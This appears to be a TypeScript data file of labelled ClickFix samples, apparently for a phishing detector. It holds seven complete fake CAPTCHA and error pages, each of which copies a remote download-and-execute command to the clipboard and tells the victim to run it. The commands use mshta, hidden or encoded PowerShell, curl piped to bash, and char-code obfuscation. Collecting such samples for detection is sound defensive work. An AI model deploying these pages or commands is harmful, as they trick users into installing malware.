import type { Entry } from '../entry.js';

/** ClickFix: fake CAPTCHA / error pages that put a command on the clipboard and tell the user to run it. */
export const entries: Entry[] = [
  {
    id: 'clickfix-recaptcha-mshta',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.ridgeview-autoparts.com/blog/winter-tires-guide/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Just a moment...</title>
<style>body{font-family:Roboto,Arial;background:#f9f9f9}.rc{width:300px;margin:120px auto;border:1px solid #d3d3d3;background:#fff;padding:14px;box-shadow:0 0 4px 1px #0001}.steps{display:none;width:420px;margin:20px auto;background:#fff;padding:20px;border:1px solid #ddd}kbd{background:#eee;border:1px solid #aaa;border-radius:3px;padding:1px 5px}</style></head>
<body><div class="rc"><label><input type="checkbox" id="chk"> I'm not a robot</label><span style="float:right;font-size:10px">reCAPTCHA<br>Privacy - Terms</span></div>
<div class="steps" id="steps"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p>Complete these steps to confirm you are human.</p></div>
<script>
const cmd = 'mshta https://ridgeview-cdn.cloud/verify.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 2165';
document.getElementById('chk').addEventListener('click', () => {
  navigator.clipboard.writeText(cmd).catch(() => { const t = document.createElement('textarea'); t.value = cmd; document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove(); });
  document.getElementById('steps').style.display = 'block';
});
</script></body></html>`,
  },
  {
    id: 'clickfix-cloudflare-powershell',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://check-human.cf-verify.site/cdn-cgi/challenge',
    body: `<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>Just a moment...</title>
<style>body{font-family:system-ui,-apple-system;background:#fff;color:#313131}.main{max-width:60rem;margin:8rem auto;padding:0 1.5rem}.cb{border:1px solid #e0e0e0;width:300px;padding:16px;display:flex;gap:10px;align-items:center}</style></head>
<body><div class="main"><h1>check-human.cf-verify.site</h1><h2>Verify you are human by completing the action below.</h2>
<div class="cb" id="cb"><input type="checkbox" id="v"> <span>Verify you are human</span><span style="margin-left:auto;font-size:10px">CLOUDFLARE</span></div>
<div id="fix" hidden><p><b>Verification failed.</b> To fix the issue, please do the following:</p><p>1. Press and hold the Windows Key ⊞ + R<br>2. In the verification window, press Ctrl + V<br>3. Press Enter on your keyboard to finish</p></div>
<p style="font-size:.75rem">Ray ID: 8e2f1c0d9a7b3e41 • Performance &amp; security by Cloudflare</p></div>
<script>
function setClipboard(text){ const ta=document.createElement('textarea'); ta.value=text; document.body.appendChild(ta); ta.select(); document.execCommand('copy'); document.body.removeChild(ta); }
document.getElementById('v').onchange = function(){
  setClipboard('powershell -w hidden -ep bypass -c "iex (iwr \\'https://cf-verify.site/c.ps1\\' -UseBasicParsing).Content" # Cloudflare verification');
  document.getElementById('fix').hidden = false;
};
</script></body></html>`,
  },
  {
    id: 'clickfix-word-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docs-onlineviewer.click/word/Contract_2026.docx.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Word Online</title>
<style>body{margin:0;font-family:Segoe UI}.bar{background:#185abd;color:#fff;padding:10px 20px}.err{width:520px;margin:80px auto;border:1px solid #c00;padding:24px;background:#fff6f6}pre{background:#222;color:#0f0;padding:8px;white-space:pre-wrap}</style></head>
<body><div class="bar">Word — Contract_2026.docx</div><div class="err"><h3>⚠ The "Word Online" extension is not installed in your browser</h3>
<p>To view the document offline, click the <b>How to fix</b> button and follow the instructions.</p><button id="fix">How to fix</button>
<div id="how" style="display:none"><p>1. Right-click the Windows start button and choose <b>Windows PowerShell (Admin)</b><br>2. Paste the copied code and press Enter<br>3. Reload this page</p></div></div>
<script>
document.getElementById('fix').addEventListener('click', async () => {
  const s = 'JABkAD0AJwBoAHQAdABwAHMAOgAvAC8AZABvAGMAcwAtAG8AbgBsAGkAbgBlAHYAaQBlAHcAZQByAC4AYwBsAGkAYwBrAC8AZgAuAHoAaQBwACcA';
  await navigator.clipboard.writeText('powershell -NoP -NonI -W Hidden -Enc ' + s);
  document.getElementById('how').style.display = 'block';
});
</script></body></html>`,
  },
  {
    id: 'clickfix-chrome-update-font',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.lakeshore-yoga-studio.com/schedule/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Lakeshore Yoga — Class Schedule</title></head>
<body><div style="position:fixed;inset:0;background:rgba(0,0,0,.85);color:#fff;font-family:Arial;display:flex;align-items:center;justify-content:center">
<div style="background:#fff;color:#222;width:560px;padding:28px;border-radius:8px"><h2>Something went wrong while displaying this web page</h2><p>Error code: <b>STATUS_FONT_MISSING</b>. The "UTF-8" font was not found.</p>
<p>To update the root certificate and fix the display, copy the fix and run it in Terminal:</p>
<ol><li>Click <b>Copy fix</b></li><li>Press <b>Win + X</b>, then select <b>Terminal (Admin)</b></li><li>Right-click to paste and press Enter</li></ol>
<button onclick="copyFix()" style="background:#1a73e8;color:#fff;border:0;padding:10px 24px">Copy fix</button></div></div>
<script>
function copyFix(){
  var c = "$u='https://lakeshore-fontfix.shop/u';$o=\\"$env:TEMP\\\\fontfix.exe\\";Invoke-WebRequest $u -OutFile $o;Start-Process $o";
  navigator.clipboard.writeText(c);
  alert('Copied! Now paste it in Terminal (Admin).');
}
</script>
<main><h1>Class Schedule</h1><p>Vinyasa Mon/Wed 6pm • Yin Thursday 7pm</p></main></body></html>`,
  },
  {
    id: 'clickfix-macos-terminal',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://verify.cloudflare-captcha-macos.com/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Verification Required</title>
<style>body{font-family:-apple-system,Helvetica;background:#f5f5f7;text-align:center}.b{width:480px;margin:100px auto;background:#fff;border-radius:12px;padding:30px}code{display:block;background:#1d1d1f;color:#fff;padding:10px;border-radius:6px;font-size:12px;margin:10px 0;word-break:break-all}</style></head>
<body><div class="b"><h2>Verify you are human</h2><p>macOS users: complete verification in Terminal.</p>
<ol style="text-align:left"><li>Press <b>⌘ + Space</b> and type <b>Terminal</b></li><li>Paste the command (⌘ + V) and press Return</li></ol>
<code id="c">/bin/bash -c "$(curl -fsSL https://cloudflare-captcha-macos.com/install.sh)"</code>
<button id="copy">Copy</button></div>
<script>document.getElementById('copy').onclick=function(){navigator.clipboard.writeText(document.getElementById('c').textContent);this.textContent='Copied ✓';};
document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','curl -s https://cloudflare-captcha-macos.com/a.sh | bash');e.preventDefault();});</script></body></html>`,
  },
  {
    id: 'clickfix-obfuscated-clipboard',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://captcha-check.human-verify.store/c/index.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Human Verification</title>
<style>body{font-family:Arial;background:#eef1f5}.cap{width:320px;margin:140px auto;background:#fff;padding:18px;border-radius:6px;box-shadow:0 2px 8px #0002}</style></head>
<body><div class="cap"><p><input type="checkbox" id="x"> <b>I'm not a robot</b></p><div id="i" style="display:none;font-size:14px">
<p>Verification steps:</p><p>1. Press Windows Button "⊞" + R<br>2. Press CTRL + V<br>3. Press Enter</p></div></div>
<script>
var _c=[112,111,119,101,114,115,104,101,108,108,32,45,119,32,49,32,105,101,120,40,110,101,119,45,111,98,106,101,99,116,32,110,101,116,46,119,101,98,99,108,105,101,110,116,41,46,100,111,119,110,108,111,97,100,115,116,114,105,110,103,40,39,104,116,116,112,115,58,47,47,104,117,109,97,110,45,118,101,114,105,102,121,46,115,116,111,114,101,47,118,39,41];
document.getElementById('x').addEventListener('change', function () {
  var s = String.fromCharCode.apply(null, _c);
  var ta = document.createElement('textarea'); ta.value = s + ' # I am not a robot'; document.body.append(ta); ta.select(); document.execCommand('copy'); ta.remove();
  document.getElementById('i').style.display = 'block';
});
</script></body></html>`,
  },
  {
    id: 'clickfix-fake-dns-error-ru',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://proverka-brauzera.ru-check.online/',
    body: `<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>Проверка браузера</title>
<style>body{font-family:Arial;background:#fff}.w{width:520px;margin:100px auto}</style></head>
<body><div class="w"><h2>Ошибка подключения: DNS_PROBE_FINISHED</h2><p>Чтобы исправить ошибку, выполните следующие действия:</p>
<ol><li>Нажмите кнопку «Копировать решение»</li><li>Нажмите <b>Win + R</b></li><li>Вставьте (<b>Ctrl + V</b>) и нажмите <b>Enter</b></li></ol>
<button onclick="navigator.clipboard.writeText('mshta.exe https://ru-check.online/dnsfix.hta  &quot;Проверка DNS завершена&quot;')">Копировать решение</button></div></body></html>`,
  },];
